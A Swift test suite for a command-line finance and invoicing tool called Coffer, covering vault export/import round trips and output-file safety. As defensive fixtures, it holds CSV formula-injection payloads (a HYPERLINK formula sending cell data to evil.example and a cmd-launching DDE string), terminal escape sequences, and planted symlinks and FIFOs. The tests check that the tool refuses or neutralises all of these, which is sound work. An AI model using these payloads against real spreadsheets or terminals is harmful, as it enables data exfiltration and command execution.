import CofferTestSupport
import Foundation
import Testing

/// Coffer's JSON export, imported into a new vault, reproduces every report exactly.
@Suite struct ExportImportTests {
    let sandbox = Sandbox()
    let environment = ["COFFER_PASSPHRASE": "demo", "COFFER_TODAY": "2026-11-22"]

    func run(_ arguments: [String], vault: URL? = nil) throws -> RunResult {
        try sandbox.run(arguments + (vault.map { ["--vault", $0.path] } ?? []), environment: environment)
    }

    @Test func jsonRoundTripGivesIdenticalReports() throws {
        let statement = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent(
            "../Fixtures/csv/uk-comma-bom-crlf.csv"
        ).standardized.path
        let source = sandbox.directory.path("source.coffer")
        #expect(try run(["demo"], vault: source).status == 0)
        for arguments in [
            ["client", "add", "Acme Ltd", "--terms", "14"],
            [
                "invoice", "new", "Acme", "--item", "Design", "2.5", "120", "--tax", "20%", "--date", "2026-11-01",
                "--send",
            ],
            ["invoice", "pay", "1", "--amount", "50"],
            // Version 4: the sender, line kinds, the reference as printed and reminders.
            [
                "invoice", "sender", "set", "--name", "Jane Doe", "--address", "2 Low Rd\nLeeds", "--bank-details",
                "Sort code 12-34-56", "--tax-label", "VAT", "--number-format", "INV-{YYYY}-{0000}",
            ],
            [
                "invoice", "new", "Acme", "--item", "Build", "1", "900", "--discount", "Loyalty", "10%", "--credit",
                "Deposit", "100", "--tax", "20%", "--date", "2026-11-02", "--send",
            ],
            ["invoice", "remind", "INV-2026-0002"], ["update", "Barclays", "2600", "--note", "payday"],
            ["category", "hide", "Hobbies"], ["growth", "set", "Barclays", "1.5%"],
            ["import", "rules", "add", "bank", "TESCO", "--category", "Groceries"],
            [
                "import", "csv", statement, "--into", "transactions", "--account", "Current", "--rules", "bank",
                "--date-format", "DD/MM/YYYY",
            ],
        ] {
            let result = try run(arguments, vault: source)
            #expect(result.status == 0, "\(arguments): \(result.stderr)")
        }
        let exported = sandbox.directory.path("export.json")
        let export = try run(["export", "json", "--out", exported.path], vault: source)
        #expect(export.status == 0)
        #expect(export.stderr.contains("not encrypted"))
        #expect(fileMode(exported) == 0o600)

        let target = sandbox.directory.path("target.coffer")
        #expect(
            try sandbox.run(
                ["init", "--kdf", "interactive", "--allow-weak-passphrase", "--vault", target.path],
                environment: environment
            ).status == 0)
        let imported = try run(["import", "json", exported.path], vault: target)
        #expect(imported.status == 0, "\(imported.stderr)")
        for report in [
            ["overview", "--json"], ["budget", "--json"], ["invoices", "--json"], ["budget", "savings", "--json"],
            ["account", "list", "--json"], ["growth", "list", "--json"], ["category", "list", "--json"],
            ["budget", "--month", "2025-01", "--json"], ["transaction", "list", "--uncategorised", "--json"],
            ["import", "rules", "show", "bank", "--json"], ["invoice", "sender", "show", "--json"],
            ["invoice", "show", "INV-2026-0002", "--json"], ["invoice", "show", "INV-2026-0002"],
            ["invoice", "export", "INV-2026-0002", "--html", "-"],
        ] {
            let before = try run(report, vault: source).stdout
            let after = try run(report, vault: target).stdout
            #expect(!before.isEmpty && before == after, "\(report) differs after the round trip")
        }
        // Exported again, the same document (ids included).
        #expect(
            try run(["export", "json"], vault: target).stdout == (try String(contentsOf: exported, encoding: .utf8)))
        // Imported transactions keep their statement rows: the same statement adds nothing.
        #expect(
            try run(
                [
                    "import", "csv", statement, "--into", "transactions", "--account", "current", "--date-format",
                    "DD/MM/YYYY",
                ],
                vault: target
            ).stdout.contains("Added 0 transactions"))
        // Numbering continues where the source left off, in the sender's number format.
        #expect(
            try run(["invoice", "new", "Acme", "--item", "More", "1", "10"], vault: target).stdout.contains(
                "INV-2026-0003"))

        #expect(
            try run(["import", "json", exported.path], vault: target).status == 64, "never into a vault that holds data"
        )
        #expect(try run(["undo"], vault: target).status == 0)
        #expect(try run(["undo"], vault: target).stdout.contains("Undone: Imported"))
    }

    /// F16: a JSON import with a terminal escape in a note or a client's address is refused whole
    /// (the same file without it imports), and text already stored never reaches the terminal raw.
    @Test func controlCharactersInAJSONImportAreRefused() throws {
        let source = sandbox.directory.path("source.coffer")
        #expect(try run(["demo"], vault: source).status == 0)
        #expect(try run(["client", "add", "Acme Ltd", "--address", "1 High St\nLondon"], vault: source).status == 0)
        let exported = try run(["export", "json"], vault: source).stdout
        for (original, hostile) in [
            ("\"note\" : \"", "\"note\" : \"\\u001b]2;pwned\\u0007"),
            ("1 High St\\nLondon", "1 High St\\u001b[2J\\nLondon"),
        ] {
            #expect(exported.contains(original), "the export has no \(original)")
            let file = sandbox.directory.path("hostile-\(UUID().uuidString).json")
            try exported.replacingOccurrences(of: original, with: hostile).write(
                to: file, atomically: true, encoding: .utf8)
            let target = sandbox.directory.path("target-\(UUID().uuidString).coffer")
            #expect(
                try sandbox.run(
                    ["init", "--kdf", "interactive", "--allow-weak-passphrase", "--vault", target.path],
                    environment: environment
                ).status == 0)
            let refused = try run(["import", "json", file.path], vault: target)
            #expect(refused.status == 64, "\(refused.stderr)")
            #expect(refused.stderr.contains("control character"), "\(refused.stderr)")
            let clean = sandbox.directory.path("clean-\(UUID().uuidString).json")
            try exported.write(to: clean, atomically: true, encoding: .utf8)
            #expect(
                try run(["import", "json", clean.path], vault: target).status == 0,
                "the same file without the escape imports")
        }
    }

    /// F4: cells a spreadsheet would run as formulas are written as text ('=…), plain negative
    /// amounts stay numbers, and importing the export back gives the original descriptions.
    @Test func csvCellsNeverRunAsFormulas() throws {
        let vault = sandbox.directory.path("formula.coffer")
        #expect(
            try sandbox.run(
                ["init", "--kdf", "interactive", "--allow-weak-passphrase", "--vault", vault.path],
                environment: environment
            ).status == 0)
        let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
        for note in hostile {
            #expect(try run(["spend", "12.50", "Groceries", "--note=" + note], vault: vault).status == 0)
        }
        let csv = try run(["export", "csv", "--only", "transactions"], vault: vault).stdout
        for note in hostile {
            let cell = "'" + note
            let quoted = "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\""
            #expect(
                csv.contains("," + cell + ",") || csv.contains("," + quoted + ","),
                "\(note) is not neutralised in:\n\(csv)")
        }
        #expect(csv.contains(",-12.50,"), "a negative amount stays a plain number")
        let file = sandbox.directory.path("formula.csv")
        try csv.write(to: file, atomically: true, encoding: .utf8)
        let target = sandbox.directory.path("formula-target.coffer")
        #expect(
            try sandbox.run(
                ["init", "--kdf", "interactive", "--allow-weak-passphrase", "--vault", target.path],
                environment: environment
            ).status == 0)
        #expect(try run(["import", "csv", file.path, "--into", "transactions"], vault: target).status == 0)
        let notes = try run(["transaction", "list", "--json"], vault: target).stdout
        for note in hostile {
            let encoded = String(decoding: try JSONEncoder().encode(note), as: UTF8.self)
            #expect(
                notes.contains(encoded.replacingOccurrences(of: "\\/", with: "/")),
                "\(note) did not round-trip: \(notes)")
        }
    }

    /// F9 (outputs): --out writes into a FIFO or a device instead of replacing it, follows a
    /// symbolic link to the file it names (the link stays), and - is standard output.
    @Test func outputsNeverReplaceWhatIsNotARegularFile() throws {
        let vault = sandbox.directory.path("out.coffer")
        #expect(try run(["demo"], vault: vault).status == 0)
        let expected = try run(["export", "json"], vault: vault).stdout
        #expect(try run(["export", "json", "--out", "-"], vault: vault).stdout == expected)

        let fifo = sandbox.directory.path("export.fifo")
        #expect(mkfifo(fifo.path, 0o600) == 0)
        final class Received: @unchecked Sendable { var data = Data() }
        let received = Received()
        let done = DispatchSemaphore(value: 0)
        let thread = Thread {
            received.data = FileHandle(forReadingAtPath: fifo.path)?.readDataToEndOfFile() ?? Data()
            done.signal()
        }
        thread.start()
        let toFIFO = try run(["export", "json", "--out", fifo.path], vault: vault)
        #expect(toFIFO.status == 0, "\(toFIFO.stderr)")
        #expect(done.wait(timeout: .now() + 30) == .success)
        #expect(String(decoding: received.data, as: UTF8.self) == expected)
        var status = stat()
        #expect(lstat(fifo.path, &status) == 0 && status.st_mode & S_IFMT == S_IFIFO, "the FIFO is still a FIFO")

        let target = sandbox.directory.path("real-export.json"), link = sandbox.directory.path("link.json")
        try "old".write(to: target, atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: target)
        #expect(try run(["export", "json", "--out", link.path], vault: vault).status == 0)
        #expect(lstat(link.path, &status) == 0 && status.st_mode & S_IFMT == S_IFLNK, "the link is still a link")
        #expect(try String(contentsOf: target, encoding: .utf8) == expected)
        #expect(fileMode(target) == 0o600)

        // As root, a character device like /dev/null (major 1, minor 3) made in the sandbox.
        let device = sandbox.directory.path("null-device")
        if mknod(device.path, S_IFCHR | 0o666, dev_t((1 << 8) | 3)) == 0 {
            #expect(try run(["export", "json", "--out", device.path], vault: vault).status == 0)
            #expect(
                stat(device.path, &status) == 0 && status.st_mode & S_IFMT == S_IFCHR, "the device is still a device")
            #expect(status.st_size == 0)
        }
    }

    /// A link or FIFO another user planted where the export goes (a shared folder such as /tmp)
    /// is refused, as the kernel's protected_symlinks and protected_fifos refuse it to the shell.
    @Test(.enabled(if: getuid() == 0)) func outputsRefuseLinksAndFIFOsOfOtherUsers() throws {
        let vault = sandbox.directory.path("planted.coffer")
        #expect(try run(["demo"], vault: vault).status == 0)
        let victim = sandbox.directory.path("bashrc")
        try "keep me".write(to: victim, atomically: true, encoding: .utf8)
        let link = sandbox.directory.path("report.csv"), fifo = sandbox.directory.path("export.csv")
        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: victim)
        #expect(mkfifo(fifo.path, 0o666) == 0)
        #expect(lchown(link.path, 65534, 65534) == 0 && chown(fifo.path, 65534, 65534) == 0)
        for target in [link, fifo] {
            let result = try run(["export", "csv", "--out", target.path], vault: vault)
            #expect(result.status == 64 && result.stderr.contains("belongs to another user"), "\(result.stderr)")
        }
        #expect(try String(contentsOf: victim, encoding: .utf8) == "keep me")
    }

    /// F17: `coffer demo` without --vault writes demo.coffer beside the default vault, never the
    /// default vault itself.
    @Test func theDemoNeverTouchesTheDefaultVault() throws {
        let result = try sandbox.run(["demo"], environment: [:])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(!FileManager.default.fileExists(atPath: sandbox.vault.path), "the default vault was created")
        #expect(
            FileManager.default.fileExists(
                atPath: sandbox.vault.deletingLastPathComponent().appendingPathComponent("demo.coffer").path))
        #expect(result.stdout.contains("was not touched"))
        #expect(
            try sandbox.run(["account", "list"], environment: ["COFFER_PASSPHRASE": "demo"]).status == 66,
            "no default vault exists")
    }

    @Test func onlyOneSectionAndRefusals() throws {
        let source = sandbox.directory.path("source.coffer")
        #expect(try run(["demo"], vault: source).status == 0)
        let accounts =
            try JSONSerialization.jsonObject(
                with: Data(try run(["export", "json", "--only", "accounts"], vault: source).stdout.utf8))
            as! [String: Any]
        #expect((accounts["accounts"] as? [Any])?.count == 7)
        #expect(accounts["transactions"] == nil && accounts["invoices"] == nil)

        let target = sandbox.directory.path("target.coffer")
        #expect(
            try sandbox.run(
                ["init", "--kdf", "interactive", "--allow-weak-passphrase", "--vault", target.path],
                environment: environment
            ).status == 0)
        let junk = sandbox.directory.path("junk.json")
        for contents in [
            "not json", "{\"format\":\"other\",\"version\":1,\"currency\":\"GBP\",\"includeReceivables\":true}",
            "{\"format\":\"coffer-export\",\"version\":1,\"currency\":\"GBP\",\"includeReceivables\":true,\"updates\":[{\"id\":\"x\"}]}",
            "{\"format\":\"coffer-export\",\"version\":9,\"currency\":\"GBP\",\"includeReceivables\":true}",
        ] {
            try Data(contents.utf8).write(to: junk)
            let result = try run(["import", "json", junk.path], vault: target)
            #expect(result.status == 64, "\(contents): \(result.stderr)")
        }
        #expect(try run(["import", "json", sandbox.directory.path("missing.json").path], vault: target).status == 66)
        #expect(
            try run(["overview", "--json"], vault: target).stdout.contains("\"netWorth\" : \"0.00\""),
            "nothing was imported")
    }
}
